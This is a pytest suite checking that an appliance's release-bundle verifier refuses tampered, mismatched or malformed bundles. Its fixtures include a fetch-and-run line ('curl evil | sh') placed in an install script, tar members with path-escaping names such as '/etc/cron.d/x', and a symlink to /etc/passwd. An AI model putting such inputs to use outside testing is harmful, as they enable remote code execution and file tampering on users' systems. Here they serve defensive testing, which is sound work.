"""A bundle's manifest and archive refuse what must not be installed, each with its reason."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import pytest

from appliance.release import archive
from appliance.release.manifest import MANIFEST_NAME, BundleRefused, Manifest, Platform, describe_members, sha256_of, verify
from appliance.release.releases import is_newer

BOX = Platform(os_id="debian", os_version="12", arch="x86_64", python="cp311")


def _bundle_folder(root: Path, platform: Platform = BOX) -> Path:
    for name, body in (
        ("wheels/llm_appliance-0.1.0-py3-none-any.whl", b"wheel bytes"),
        ("wheels/llama_cpp_python-0.3.36-py3-none-linux_x86_64.whl", b"engine bytes"),
        ("debs/libjemalloc2_5.3.0-1_amd64.deb", b"deb bytes"),
        ("src/install.sh", b"#!/bin/sh\n"),
    ):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(body)
    manifest = Manifest(
        version="0.1.0",
        flavour="cpu",
        platform=platform,
        built_at="2026-12-05T18:00:00+00:00",
        build_id="abc123",
        members=describe_members(root),
        debs=("libjemalloc2",),
    )
    (root / MANIFEST_NAME).write_text(manifest.to_json())
    return root


def _refused(root: Path, here: Platform = BOX) -> str:
    with pytest.raises(BundleRefused) as refused:
        verify(root, here)
    return refused.value.reason


def test_an_intact_bundle_verifies_after_a_round_trip_through_the_archive(tmp_path: Path) -> None:
    digest = archive.pack(_bundle_folder(tmp_path / "made"), tmp_path / "b.tar")
    assert digest == sha256_of(tmp_path / "b.tar")  # the sha256 make-bundle prints for the admin to compare
    archive.unpack(tmp_path / "b.tar", tmp_path / "got")
    manifest = verify(tmp_path / "got", BOX)
    assert (manifest.version, manifest.flavour, manifest.platform) == ("0.1.0", "cpu", BOX)
    assert {m.path for m in manifest.members} == {
        "wheels/llm_appliance-0.1.0-py3-none-any.whl",
        "wheels/llama_cpp_python-0.3.36-py3-none-linux_x86_64.whl",
        "debs/libjemalloc2_5.3.0-1_amd64.deb",
        "src/install.sh",
    }


def test_a_member_changed_in_place_is_refused(tmp_path: Path) -> None:
    root = _bundle_folder(tmp_path)
    (root / "wheels/llm_appliance-0.1.0-py3-none-any.whl").write_bytes(b"WHEEL BYTES")  # same size, other bytes
    assert "wheels/llm_appliance-0.1.0-py3-none-any.whl does not match its sha256" in _refused(root)


def test_a_member_of_another_size_is_refused(tmp_path: Path) -> None:
    root = _bundle_folder(tmp_path)
    (root / "src/install.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    assert "src/install.sh has 25 bytes, manifest.json says 10" in _refused(root)


def test_a_missing_member_is_refused(tmp_path: Path) -> None:
    root = _bundle_folder(tmp_path)
    (root / "debs/libjemalloc2_5.3.0-1_amd64.deb").unlink()
    assert "debs/libjemalloc2_5.3.0-1_amd64.deb is listed in manifest.json but missing" in _refused(root)


def test_a_member_the_manifest_does_not_list_is_refused(tmp_path: Path) -> None:
    root = _bundle_folder(tmp_path)
    (root / "wheels/extra-1.0-py3-none-any.whl").write_bytes(b"slipped in")
    assert "wheels/extra-1.0-py3-none-any.whl is not listed" in _refused(root)


@pytest.mark.parametrize(
    ("made_for", "reason"),
    [
        (Platform("debian", "12", "aarch64", "cp311"), "CPU architecture aarch64, this box has x86_64"),
        (Platform("debian", "13", "x86_64", "cp311"), "operating system debian 13, this box has debian 12"),
        (Platform("ubuntu", "24.04", "x86_64", "cp311"), "operating system ubuntu 24.04"),
        (Platform("debian", "12", "x86_64", "cp312"), "Python ABI cp312, this box has cp311"),
    ],
)
def test_a_bundle_made_for_another_box_is_refused(tmp_path: Path, made_for: Platform, reason: str) -> None:
    assert reason in _refused(_bundle_folder(tmp_path, made_for))


def test_no_manifest_or_an_unknown_format_is_refused(tmp_path: Path) -> None:
    root = _bundle_folder(tmp_path)
    body = json.loads((root / MANIFEST_NAME).read_text())
    body["format"] = 99
    (root / MANIFEST_NAME).write_text(json.dumps(body))
    assert "format 99" in _refused(root)
    (root / MANIFEST_NAME).unlink()
    assert "no manifest.json" in _refused(root)


def _tar_with(tmp_path: Path, member: tarfile.TarInfo, body: bytes = b"") -> Path:
    path = tmp_path / "odd.tgz"
    with tarfile.open(path, "w:gz") as tar:
        tar.addfile(member, io.BytesIO(body) if body else None)
    return path


@pytest.mark.parametrize("name", ["../escape.txt", "/etc/cron.d/x", "src/../../escape.txt"])
def test_unpacking_refuses_names_outside_the_bundle(tmp_path: Path, name: str) -> None:
    member = tarfile.TarInfo(name)
    member.size = 2
    with pytest.raises(BundleRefused, match="named outside the bundle"):
        archive.unpack(_tar_with(tmp_path, member, b"hi"), tmp_path / "into")
    assert not (tmp_path / "escape.txt").exists()
    assert not (tmp_path / "into").exists() or not any((tmp_path / "into").rglob("*"))


def test_unpacking_refuses_links(tmp_path: Path) -> None:
    member = tarfile.TarInfo("src/passwd")
    member.type = tarfile.SYMTYPE
    member.linkname = "/etc/passwd"
    with pytest.raises(BundleRefused, match="not a plain file or folder"):
        archive.unpack(_tar_with(tmp_path, member), tmp_path / "into")


def test_a_file_that_is_not_an_archive_is_refused(tmp_path: Path) -> None:
    (tmp_path / "b.tgz").write_bytes(b"not a tar at all")
    with pytest.raises(BundleRefused, match="not a readable bundle archive"):
        archive.unpack(tmp_path / "b.tgz", tmp_path / "into")


def test_versions_order_as_pep_440_says() -> None:
    assert is_newer("0.1.0.post1", "0.1.0") and is_newer("0.1.0.post2", "0.1.0.post1") and is_newer("0.2.0", "0.1.0.post9")
    assert is_newer("0.1.0", "0.1.0rc1") and not is_newer("0.1.0", "0.1.0") and not is_newer("0.1.0.dev1", "0.1.0")
    with pytest.raises(BundleRefused, match="not a version number"):
        is_newer("latest", "0.1.0")
